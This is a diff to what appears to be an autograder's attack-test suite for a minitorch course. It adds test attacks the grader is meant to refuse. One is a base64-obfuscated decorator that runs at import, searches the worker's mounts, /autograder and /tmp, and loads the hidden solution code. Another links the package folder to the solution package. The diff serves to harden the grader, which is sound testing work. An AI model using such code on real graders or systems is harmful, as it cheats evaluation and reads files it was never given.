@@ -39,7 +39,7 @@ from pathlib import Path
 from typing import Any
 
 from .bundle import autograder
-from .config import Calendar, load_calendar
+from .config import REPO, Calendar, load_calendar
 from .grade import grading_env
 from .gradebook import grade_all
 from .layers import CourseError, scan_blocks
@@ -121,6 +121,72 @@ def _both(*edits: Callable[[Path], None]) -> Callable[[Path], None]:
             e(root)
 
     return edit
+
+
+def _decorate(file: str, name: str, decorator: str) -> Callable[[Path], None]:
+    """Put ``decorator`` (one line) on the module-level ``def name`` of the package's ``file``."""
+
+    def edit(root: Path) -> None:
+        path = root / PKG / file
+        text = path.read_text(encoding="utf-8")
+        assert f"\ndef {name}(" in text, name
+        path.write_text(text.replace(f"\ndef {name}(", f"\n{decorator}\ndef {name}(", 1), "utf-8")
+
+    return edit
+
+
+def _link(rel: str, target: Path) -> Callable[[Path], None]:
+    """Make ``rel`` (a folder of the starter) a symbolic link to ``target``."""
+
+    def edit(root: Path) -> None:
+        shutil.rmtree(root / rel)
+        (root / rel).symlink_to(target, target_is_directory=True)
+
+    return edit
+
+
+# A decorator of a spliced ``def`` runs in the worker when the def does (at import): this one
+# looks through the worker's search path, its mounts, /autograder and /tmp for another copy
+# of its file and compiles that copy's function (without its decorators) as its own.
+_STEAL = (
+    "@(lambda f: (lambda ns: (exec(__import__('base64').b64decode({code!r}).decode(), ns), "
+    "ns.get('found') or f)[1])({{'f': f}}))"
+)
+_SEARCH = """
+import ast, os, sys
+found = None
+roots = [p for p in sys.path if p]
+try:
+    roots += [line.split()[1] for line in open("/proc/self/mounts")]
+except OSError:
+    pass
+roots += ["/autograder", "/tmp", "/var/tmp", "/run/lock"]
+for root in dict.fromkeys(roots):
+    if root in ("/", "/usr", "/proc", "/sys", "/dev"):
+        continue
+    for d, _, names in os.walk(root):
+        if "functional.py" not in names or not d.endswith("minitorch/operators"):
+            continue
+        try:
+            tree = ast.parse(open(os.path.join(d, "functional.py")).read())
+        except (OSError, SyntaxError, ValueError):
+            continue
+        for node in tree.body:
+            if isinstance(node, ast.FunctionDef) and node.name == f.__name__:
+                node.decorator_list = []
+                code = ast.unparse(node)
+                if "NotImplementedError" not in code and found is None:
+                    space = {"Callable": object, "Iterable": object}
+                    exec("from __future__ import annotations\n" + code, space)
+                    found = space[f.__name__]
+"""
+
+
+def _steal(name: str) -> Callable[[Path], None]:
+    import base64
+
+    code = base64.b64encode(_SEARCH.encode()).decode()
+    return _decorate("functional.py", name, _STEAL.format(code=code))
 
 
 # The forger of pytest's reports that the first attack put at the end of __init__.py.
@@ -309,6 +375,21 @@ def _attacks() -> list[Attack]:
               raise NotImplementedError("Task 0.3: no answer")
               """,
             ),
+        ),
+        a(
+            "steal-at-definition-time",
+            "read the solution",
+            "decorators of map, zip_with and reduce (stubs) search the worker's mounts, sys.path, "
+            "/autograder and /tmp for the course's functional.py and take its functions",
+            _both(_steal("map"), _steal("zip_with"), _steal("reduce")),
+        ),
+        a(
+            "linked-package-folder",
+            "read the solution",
+            "src/minitorch is a symbolic link to the course's solution package (an upload keeps "
+            "links): it must be refused, not graded",
+            _link("src/minitorch", REPO / "packages" / "mt-operators" / "src" / "minitorch"),
+            keep=frozenset(),
         ),
         # Rewriting files.
         a(
@@ -892,7 +973,7 @@ class _Bundle:
         target = self.root / "submission"
         shutil.rmtree(target, ignore_errors=True)
         shutil.rmtree(self.root / "results", ignore_errors=True)
-        shutil.copytree(submission, target)
+        shutil.copytree(submission, target, symlinks=True)  # as an upload keeps them
         proc = subprocess.run(
             [str(self.root / "run_autograder")],
             cwd=self.root,
